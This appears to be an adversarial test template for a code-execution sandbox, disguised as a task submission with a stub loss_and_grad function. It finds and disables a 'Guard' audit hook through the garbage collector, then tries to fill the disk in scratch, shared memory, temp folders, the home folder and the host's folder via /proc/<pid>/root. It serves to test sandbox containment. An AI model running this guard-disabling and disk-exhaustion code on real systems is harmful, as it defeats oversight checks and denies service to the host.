"""Fill the disk: scratch without end, then the host's shared-memory and temporary folders.

A template: the tests put a fresh file name in place of ``MARKER`` and the
oracle's temporary folder in place of ``HOST_TMP``. With the guard disarmed,
the file writes up to 1 GiB into scratch (until the disk is full), then up to
1 GiB each into ``/dev/shm``, ``/tmp``, ``/var/tmp``, the home folder and
``HOST_TMP`` (directly and through ``/proc/<pid>/root``), and reports how much
each took.

Held when: scratch stops it well before 1 GiB, nothing lands outside scratch,
and the host's free space is unchanged.
"""

import contextlib
import gc
import glob
import os

import numpy as np

MARKER = "@@MARKER@@"
HOST_TMP = "@@HOST_TMP@@"
CHUNK = b"\0" * (4 << 20)
LIMIT = 1 << 30


def _disarm():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Guard" and "armed" in getattr(obj, "__dict__", {}):
            obj.armed = False
            type(obj).__call__ = lambda self, event, args: None


def _fill(path):
    written = 0
    with contextlib.suppress(OSError), open(path, "wb") as f:
        while written < LIMIT:
            f.write(CHUNK)
            f.flush()
            written += len(CHUNK)
    return written


_disarm()
SCRATCH = _fill(os.path.join(os.getcwd(), MARKER))
OUTSIDE = {}
folders = ["/dev/shm", "/tmp", "/var/tmp", os.path.expanduser("~"), HOST_TMP]
folders += [f"{proc}/root{HOST_TMP}" for proc in glob.glob("/proc/[0-9]*")]
for i, folder in enumerate(folders):
    if os.path.realpath(folder) == os.path.realpath(os.getcwd()):
        continue
    written = _fill(os.path.join(folder, f"{MARKER}-{i}"))
    if written:
        OUTSIDE[folder] = written
if SCRATCH > 256 << 20 or OUTSIDE:
    print(f"ATTACK-SUCCEEDED: {SCRATCH >> 20} MiB in scratch, outside: {OUTSIDE}")
else:
    print(f"attack: scratch took {SCRATCH >> 20} MiB, nothing outside")


def loss_and_grad(W, X, T, layer_sizes, lam):
    return 0.0, np.zeros_like(W)
